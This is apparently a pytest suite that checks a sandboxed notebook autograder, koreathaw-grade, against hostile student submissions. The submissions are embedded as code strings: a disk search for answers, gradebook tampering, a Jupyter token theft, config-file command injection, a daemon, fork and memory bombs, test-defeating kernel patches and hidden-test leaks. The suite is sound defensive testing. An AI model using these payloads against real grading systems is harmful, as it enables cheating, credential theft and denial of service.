"""Submissions that attack the grader, graded with an honest one in the same batch.

Each attacker hands in a1-sources with one extra cell: it searches the disk for the
course's answers, writes the gradebook, overwrites another student's submission,
connects to a port on 127.0.0.1, leaves a daemon behind, writes into /tmp, $HOME and
/root, edits the course's data and nbgrader_config.py, steals a Jupyter token and
calls the server, rewrites its kernel (an input transformer, patched builtins) on a
blank release, or bombs the machine with processes or memory split across processes.
Others attack the grader itself: the course's setup cell moved after the tests or
deleted, with the student's own ``articles`` in its place; a fake result shown during a
test; the output budget filled so that a test's error would not fit; a function that
remembers the hidden tests' arguments and raises them later.
The batch goes through ``koreathaw-grade collect`` and ``autograde`` (on every core and
``--serial``), with the course data in a private copy and $HOME in a scratch folder.

For every attack: nothing it found holds a line of a solution or a hidden test,
nothing outside its sandbox changed, the cheats earn 0, the honest student's grade
and files are untouched, the gradebook is intact, and the report names the fault.
Traffic goes only to listeners this module opens on 127.0.0.1.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import threading
import time
import uuid
from pathlib import Path

import pytest
from gradingkit import (BIN, REPO, CourseCopy, course_env, make_course, read, region_lines, solved, source_text,
                        write)

pytestmark = [pytest.mark.grading, pytest.mark.slow]

A1 = "a1-sources"
TAG = uuid.uuid4().hex[:10]  # names the files and processes of this run, so no other run is mistaken for it

SEARCH = r'''
import os
found = []
for top in ["/", os.path.expanduser("~"), "/tmp", "/root"]:
    for root, dirs, files in os.walk(top):
        if root.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in root or "/lib/python" in root:
            dirs[:] = []
            continue
        for name in dirs + files:
            if name in ("source", "release", "submitted", "autograded", "gradebook.db", "nbgrader_config.py"):
                found.append(os.path.join(root, name))
print("FOUND", found)
for path in found:
    if os.path.isfile(path):
        print(open(path, errors="replace").read()[:20000])
open(r"{root}/source/a1-sources/a1-sources.ipynb").read()
'''
WRITE_GRADEBOOK = r'''
import sqlite3
con = sqlite3.connect(r"{root}/gradebook.db")
con.execute("UPDATE grade SET auto_score = 99")
con.commit()
'''
OVERWRITE = r'''
import glob, os
for path in glob.glob("../*/a1-sources.ipynb") + glob.glob("../../*/*/a1-sources.ipynb"):
    try:
        open(path, "w").write("{{}}")
    except OSError as exc:
        print("refused", path, exc)
open(r"{root}/submitted/model/a1-sources/a1-sources.ipynb", "w").write("{{}}")
'''
CONNECT = r'''
import socket
s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
s.sendall(b"attack from the sandbox")
'''
DAEMON = r'''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 5; echo daemon > {marker}; echo daemon > /tmp/daemon-{tag}; exec sleep 300.{tag}"])
    os._exit(0)
'''
SCRIBBLE = r'''
import os
for path in ["/tmp/pwn-{tag}", os.path.expanduser("~/pwn-{tag}"), "/root/pwn-{tag}", r"{home}/pwn-{tag}", r"{hosttmp}/pwn-{tag}"]:
    try:
        open(path, "w").write("pwned")
        print("wrote", path)
    except OSError as exc:
        print("refused", path, type(exc).__name__)
open(r"{home}/pwn-{tag}", "w").write("pwned")
'''
EDIT = r'''
import os
open(os.path.join(r"{data}", "names.csv"), "a").write("Kim Jong Un,Nobody,person\n")
open(r"{root}/nbgrader_config.py", "a").write("\nimport os; os.system('touch /tmp/config-ran-{tag}')\n")
'''
TOKEN = r'''
import glob, json, os, urllib.request
hits = glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
hits += glob.glob(r"{home}/.local/share/jupyter/runtime/*.json") + glob.glob("/root/.local/share/jupyter/runtime/*.json")
print("runtime files:", hits)
for hit in hits:
    info = json.load(open(hit))
    urllib.request.urlopen(info["url"] + "api/contents/assignments/source?token=" + info["token"], timeout=3)
urllib.request.urlopen("http://127.0.0.1:{port}/api/contents/assignments/source?token={tag}", timeout=3)
'''
TRANSFORMER = r'''
def _cheat(lines):
    return ["pass\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_cheat)
'''
BUILTINS = r'''
import builtins
_real_isinstance = builtins.isinstance
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __contains__(self, item): return item != "Kim Jong-Un"
    def __iter__(self): return iter([])
builtins.isinstance = lambda o, c: True if type(o).__name__ == "Anything" else _real_isinstance(o, c)
'''
#: The builtins cheat's "answers": every function returns an object equal to anything.
ANYTHING = {"count-term": "def count_term(article_id, term):\n    return Anything()\n",
            "people-mentioned": "def people_mentioned(article_id):\n    return Anything()\n",
            "standardise": "def standardise(spellings):\n    return Anything()\n"}
FORK_BOMB = r'''
import os, time
started = 0
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    started += 1
print("started", started)
'''
MEMORY_BOMB = r'''
import os
pid = os.fork()
blocks = []
for _ in range(20):
    blocks.append(b"\x01" * (100 * 1024 * 1024))  # 2 GB per process, touched: 4 GB in all
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
'''

FAKE_DATA = r'''
import pandas as pd
articles = pd.DataFrame({{"body": ["nothing"]}}, index=pd.Index(["x"], name="article_id"))
names = pd.DataFrame({{"canonical": [], "kind": []}})
'''
#: Answers that know only the visible tests' values (a cheat with the grader's data its own).
VISIBLE_ONLY = {
    "count-term": ("def count_term(a, t):\n    return {('warm-climate', 'sanctions'): 4, ('warm-climate', 'Sanctions'): 4,"
                   " ('liaison-meeting', 'unification'): 3}.get((a, t), 0)\n"),
    "people-mentioned": "def people_mentioned(a):\n    return ['Kim Jong Un'] if a == 'talks-panmunjom' else []\n",
    "standardise": ("def standardise(s):\n    d = {'Kim Jong-un': 'Kim Jong Un', 'Moon Jae In': 'Moon Jae-in',"
                    " 'Kim Jong-Un': 'Kim Jong Un'}\n    return [d.get(x, x) for x in s]\n"),
}
LEAK = r'''
import koreathaw as kt
_seen = []
_MARK = "".join(["LE", "AK"])  # the source shows the student's code: the marker exists only when it runs
class Own(Exception):
    pass
def count_term(article_id, term):
    _seen.append(term)
    return kt.tokens(articles.loc[article_id, "body"]).count(term.lower())
def people_mentioned(article_id):
    raise ValueError(_MARK + ": " + " ".join(_seen))
def standardise(spellings):
    raise type(_MARK + "_" + "_".join(_seen)[:60], (Own,), {{}})("x")
'''
FAKE_RESULT = r'''
def _looks_fine():
    get_ipython().displayhook("looks fine")
def count_term(*args):
    _looks_fine()
def people_mentioned(*args):
    _looks_fine()
def standardise(*args):
    _looks_fine()
'''
FLOOD = r'''
from IPython.display import display
for _k in range(21, -1, -1):
    display({{"text/plain": "x" * 2 ** _k}}, raw=True)
    display({{"text/plain": "x" * 2 ** _k}}, raw=True)
'''

#: student -> (starts from "model" or "blank", attack code)
ATTACKERS = {
    "searcher": ("blank", SEARCH), "gradebook-writer": ("model", WRITE_GRADEBOOK), "overwriter": ("model", OVERWRITE),
    "connector": ("model", CONNECT), "daemon": ("model", DAEMON), "scribbler": ("model", SCRIBBLE),
    "editor": ("model", EDIT), "token-thief": ("blank", TOKEN), "transformer": ("blank", TRANSFORMER),
    "builtins": ("blank", BUILTINS), "fork-bomb": ("model", FORK_BOMB), "memory-bomb": ("model", MEMORY_BOMB),
    "setup-mover": ("blank", FAKE_DATA), "setup-deleter": ("blank", FAKE_DATA), "leaker": ("blank", LEAK),
    "result-faker": ("blank", FAKE_RESULT), "flooder": ("blank", FLOOD),
}
#: How an attacker's notebook is changed beyond its extra cell.
SETUP_MOVED, SETUP_DELETED = {"setup-mover"}, {"setup-deleter"}
DEFINED_FIRST = {"leaker", "result-faker"}  # their functions are in the attack cell; the answer cells are emptied
#: What the report must say of each attacker (flag prefixes). Without root there is no cgroup, and
#: student code may start no process at all: the forks themselves fail.
_FORKS = os.geteuid() == 0
FAULTS = {
    "searcher": ["error_in_cell:cell 1(FileNotFoundError)"], "gradebook-writer": ["error_in_cell:cell 1(OperationalError)"],
    "overwriter": ["error_in_cell:cell 1(FileNotFoundError)"], "connector": ["error_in_cell:cell 1(ConnectionRefusedError)"],
    "daemon": ["processes_left_behind"] if _FORKS else ["error_in_cell:cell 1(BlockingIOError)"],
    "scribbler": ["error_in_cell:cell 1"], "editor": ["error_in_cell:cell 1"],
    "token-thief": ["error_in_cell:cell 1(URLError)"],
    "fork-bomb": ["processes_left_behind"] if _FORKS else [],
    "memory-bomb": ["memory_error"] if _FORKS else ["error_in_cell:cell 1(BlockingIOError)"],
    "setup-mover": ["cells_moved:a1-setup"], "setup-deleter": ["deleted_cells:a1-setup"],
    "flooder": ["output_truncated"],
}


def with_cell(nb: dict, code: str, student: str = "") -> dict:
    """``nb`` with one more cell, the attack, before everything else (the builtins cheat also answers with it;
    the setup mover puts the course's setup cell last, the deleter deletes it, and both answer with
    :data:`VISIBLE_ONLY`)."""
    nb = copy.deepcopy(nb)
    nb["cells"].insert(1, {"cell_type": "code", "id": "attack", "metadata": {}, "outputs": [], "execution_count": None,
                           "source": code})
    answers = (ANYTHING if code == BUILTINS else VISIBLE_ONLY if student in SETUP_MOVED | SETUP_DELETED
               else dict.fromkeys(VISIBLE_ONLY, "# defined in the first cell\n") if student in DEFINED_FIRST else {})
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell["source"] = answers[gid]
    if student in SETUP_MOVED | SETUP_DELETED:
        setup = next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "a1-setup")
        nb["cells"].remove(setup)
        if student in SETUP_MOVED:
            nb["cells"].append(setup)
    return nb


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(20)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.seen: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.seen.append(conn.recv(1000) or b"(connected)")
            except OSError:
                self.seen.append(b"(connected)")
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


def tree_digest(top: Path, skip: set[str] = frozenset()) -> dict[str, str]:
    """Every file under ``top`` (but the named top-level entries) with its SHA-256."""
    out = {}
    for path in sorted(top.rglob("*")):
        rel = path.relative_to(top)
        if rel.parts[0] in skip or not path.is_file():
            continue
        out[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


class Scene:
    """One course copy with the batch collected, its environment and what it looked like before grading."""

    def __init__(self, base: Path, listener: Listener) -> None:
        self.course = make_course(base)
        self.home = base / "home"
        self.data = base / "data"
        shutil.copytree(REPO / "data", self.data)
        runtime = self.home / ".local" / "share" / "jupyter" / "runtime"
        runtime.mkdir(parents=True)
        (runtime / "jpserver-4242.json").write_text(json.dumps(
            {"url": f"http://127.0.0.1:{listener.port}/", "token": f"secret-{TAG}", "port": listener.port}))
        self.marker = base / f"daemon-was-here-{TAG}"
        self.env = {**course_env(), "HOME": str(self.home), "KOREATHAW_DATA": str(self.data)}
        self.run("release", A1)
        root = self.course.root
        release, source = read(root / "release" / A1 / f"{A1}.ipynb"), read(root / "source" / A1 / f"{A1}.ipynb")
        starts = {"model": solved(release, source), "blank": release}
        download = base / "download"
        write(starts["model"], download / "model" / f"{A1}.ipynb")
        fill = {"root": root, "port": listener.port, "tag": TAG, "marker": self.marker, "home": self.home,
                "hosttmp": "/tmp", "data": self.data}
        for student, (start, code) in ATTACKERS.items():
            write(with_cell(starts[start], code.format(**fill), student), download / student / f"{A1}.ipynb")
        (root / "students.csv").write_text("id\nmodel\n" + "\n".join(ATTACKERS) + "\n", encoding="utf-8")
        self.run("collect", str(download), A1)
        self.before = self.snapshot()

    def run(self, *args: str) -> subprocess.CompletedProcess:
        proc = subprocess.run([str(BIN / "koreathaw-grade"), "--course", str(self.course.root), *args],
                              cwd=self.course.root, env=self.env, capture_output=True, text=True, timeout=900)
        assert proc.returncode == 0, f"{args} failed:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
        return proc

    def snapshot(self) -> dict[str, object]:
        """What must not change: the course (but the grader's own outputs), the data, $HOME, /tmp and /root names."""
        skip = {"autograded", "feedback", "reports", "gradebook.db", ".nbgrader.log"}
        # $HOME/.cache is the grader's own (matplotlib's font cache, written when the report draws its figures)
        return {"course": tree_digest(self.course.root, skip), "data": tree_digest(self.data),
                "home": tree_digest(self.home, {".cache"}), "repo-data": tree_digest(REPO / "data"),
                "tmp": sorted(p.name for p in Path("/tmp").iterdir() if TAG in p.name),
                "root": sorted(p.name for p in Path("/root").iterdir() if TAG in p.name) if os.access("/root", os.R_OK) else []}

    def rows(self) -> dict[str, dict[str, str]]:
        self.run("export", "--output", str(self.course.base / "grades.csv"))
        return {r["student_id"]: r for r in self.course.export_rows(self.course.base / "grades.csv")}


def _graded(tmp_path_factory, *flags: str):
    listener = Listener()
    try:
        scene = Scene(tmp_path_factory.mktemp("hostile"), listener)
        scene.proc = scene.run("autograde", A1, *flags)
        time.sleep(8)  # the daemon would write its marker 5 s after it started
        scene.after = scene.snapshot()
        scene.rows_ = scene.rows()
    finally:
        listener.close()
    scene.reached = listener.seen
    return scene


@pytest.fixture(scope="module")
def parallel(tmp_path_factory):
    """The batch graded by ``koreathaw-grade autograde`` (every core)."""
    return _graded(tmp_path_factory)


@pytest.fixture(scope="module")
def serial(tmp_path_factory):
    """The batch graded by ``koreathaw-grade autograde --serial``."""
    return _graded(tmp_path_factory, "--serial")


@pytest.fixture(params=["parallel", "serial"])
def scene(request):
    return request.getfixturevalue(request.param)


def secret_lines() -> list[str]:
    """Every distinctive line of a solution or a hidden test of a1-sources (20 characters or more: a line such
    as ``return result`` also stands in the standard library's tracebacks)."""
    text = "\n".join(source_text(c) for c in read(REPO / "assignments" / "source" / A1 / f"{A1}.ipynb")["cells"])
    lines = region_lines(text, "BEGIN SOLUTION", "END SOLUTION") + region_lines(text, "BEGIN HIDDEN TESTS", "END HIDDEN TESTS")
    return [line for line in lines if len(line) >= 20]


def test_the_honest_student_keeps_full_marks_and_untouched_files(scene):
    """The model submission: 5/5, no flag, its submitted file byte for byte as collected."""
    row = scene.rows_["model"]
    assert (row["score"], row["status"], row["needs_attention"]) == ("5", "graded", "no"), row
    path = "submitted/model/a1-sources/a1-sources.ipynb"
    assert scene.after["course"][path] == scene.before["course"][path]


def test_nothing_outside_the_sandboxes_changed(scene):
    """The course (but the grader's outputs), the data, the repository's data, $HOME, /tmp and /root: as before."""
    assert scene.after == scene.before
    assert not scene.marker.exists(), "the daemon wrote outside its sandbox"


def test_no_connection_reached_the_host(scene):
    """Neither the port nor the fake Jupyter server on 127.0.0.1 saw a single connection."""
    assert scene.reached == []


def test_no_process_is_left_running():
    """After grading (and the daemon's 5 s), no sandboxed process of this run is alive anywhere."""
    left = []
    for proc in Path("/proc").iterdir():
        try:
            if TAG.encode() in (proc / "cmdline").read_bytes():
                left.append(proc.name)
        except OSError:
            continue
    assert left == []


def test_the_gradebook_is_intact(scene):
    """SQLite's integrity check passes and no grade was set to anything a test did not give."""
    db = scene.course.root / "gradebook.db"
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        scores = [s for (s,) in con.execute("SELECT auto_score FROM grade WHERE auto_score IS NOT NULL")]
    assert scores and max(scores) <= 2


@pytest.mark.parametrize("cheat", ["transformer", "builtins"])
def test_cheats_on_a_blank_release_earn_nothing(scene, cheat):
    """An input transformer or patched builtins in the student's kernel: the tests run elsewhere, 0/5."""
    assert scene.rows_[cheat]["score"] == "0"


@pytest.mark.parametrize("student", sorted(FAULTS))
def test_the_report_names_each_fault(parallel, student):
    """The per-student report names what the submission did (its error, the killed processes, the memory)."""
    row = parallel.rows_[student]
    for prefix in FAULTS[student]:
        assert prefix in row["flags"], (student, row["flags"], row["details"])
    report = (parallel.course.root / "reports" / f"{A1}.md").read_text(encoding="utf-8")
    assert f"| {student} |" in report


def test_what_attackers_found_holds_no_answer(parallel):
    """No output of any graded notebook, and no feedback page, holds a line of a solution or hidden test."""
    parallel.run("feedback", A1)
    secrets = secret_lines()
    assert secrets
    for path in (parallel.course.root / "autograded").glob(f"*/{A1}/*.ipynb"):
        nb = read(path)
        outputs = json.dumps([c.get("outputs", []) for c in nb["cells"]])
        found = [line for line in secrets if line in outputs]
        assert found == [], (path.parent.parent.name, found)
    from koreathaw_grading.feedback import page_text

    for page in (parallel.course.root / "feedback").glob(f"*/{A1}/*.html"):
        shown = page_text(page.read_text(encoding="utf-8"))
        hidden = [line for line in secrets if " ".join(line.split()) in shown and page.parent.parent.name in
                  ("searcher", "token-thief", "transformer", "builtins")]
        assert hidden == [], (page, hidden)


@pytest.mark.parametrize("cheat", ["setup-mover", "setup-deleter", "result-faker", "flooder"])
def test_cheats_on_the_grader_earn_nothing(scene, cheat):
    """The course's setup cell moved after the tests (or deleted) with the student's own ``articles`` in its
    place; a fake result shown during a test; the output budget filled so a test's error would not fit:
    the tests still use the course's data and see every failure, 0/5."""
    assert scene.rows_[cheat]["score"] == "0", scene.rows_[cheat]


def test_the_deleted_setup_cell_is_reported_truthfully(parallel):
    """A deleted read-only cell is not put back (nbgrader puts back graded cells only): the report says so."""
    details = parallel.rows_["setup-deleter"]["details"]
    assert "not put back" in details and "put back with their original content: a1-setup" not in details


def test_no_hidden_argument_reaches_a_page(parallel):
    """A function that saw the hidden tests' arguments raises them later, in its message and in its
    exception's class name: neither reaches the autograded notebook or the feedback page."""
    from koreathaw_grading.feedback import page_text
    from koreathaw_grading.sandbox.evaluate import WITHHELD_AFTER

    parallel.run("feedback", A1)
    nb = read(parallel.course.root / "autograded" / "leaker" / A1 / f"{A1}.ipynb")
    outputs = json.dumps([c.get("outputs", []) for c in nb["cells"]])
    withheld = [o for c in nb["cells"] for o in c.get("outputs", [])
                if o.get("output_type") == "error" and o.get("evalue") == WITHHELD_AFTER]
    assert [o["ename"] for o in withheld] == ["ValueError", "Exception"], outputs[-3000:]  # raised after the hidden calls
    assert "LEAK:" not in outputs and "LEAK_" not in outputs, outputs[:3000]
    pages = list((parallel.course.root / "feedback" / "leaker").glob(f"{A1}/*.html"))
    shown = [page_text(p.read_text(encoding="utf-8")) for p in pages]
    assert shown and not any("LEAK:" in text or "LEAK_" in text for text in shown)


def test_the_cheats_would_have_worked_without_the_sandbox(tmp_path):
    """The proof that the cheats are real: graded the old way (UNSAFE_NO_SANDBOX=1), both earn full marks."""
    course: CourseCopy = make_course(tmp_path)
    env = {**course_env(), "UNSAFE_NO_SANDBOX": "1"}
    run = lambda *a: subprocess.run([str(BIN / "koreathaw-grade"), "--course", str(course.root), *a],  # noqa: E731
                                    cwd=course.root, env=env, capture_output=True, text=True, timeout=600, check=True)
    run("release", A1)
    release = read(course.root / "release" / A1 / f"{A1}.ipynb")
    for cheat in ("transformer", "builtins"):
        write(with_cell(release, ATTACKERS[cheat][1]), course.root / "submitted" / cheat / A1 / f"{A1}.ipynb")
    run("autograde", A1, "--serial")
    run("export", "--output", str(tmp_path / "grades.csv"))
    rows = {r["student_id"]: r for r in course.export_rows(tmp_path / "grades.csv")}
    assert rows["transformer"]["score"] == "5" and rows["builtins"]["score"] == "5"
    assert "UNSAFE_NO_SANDBOX" in rows["builtins"]["flags"]
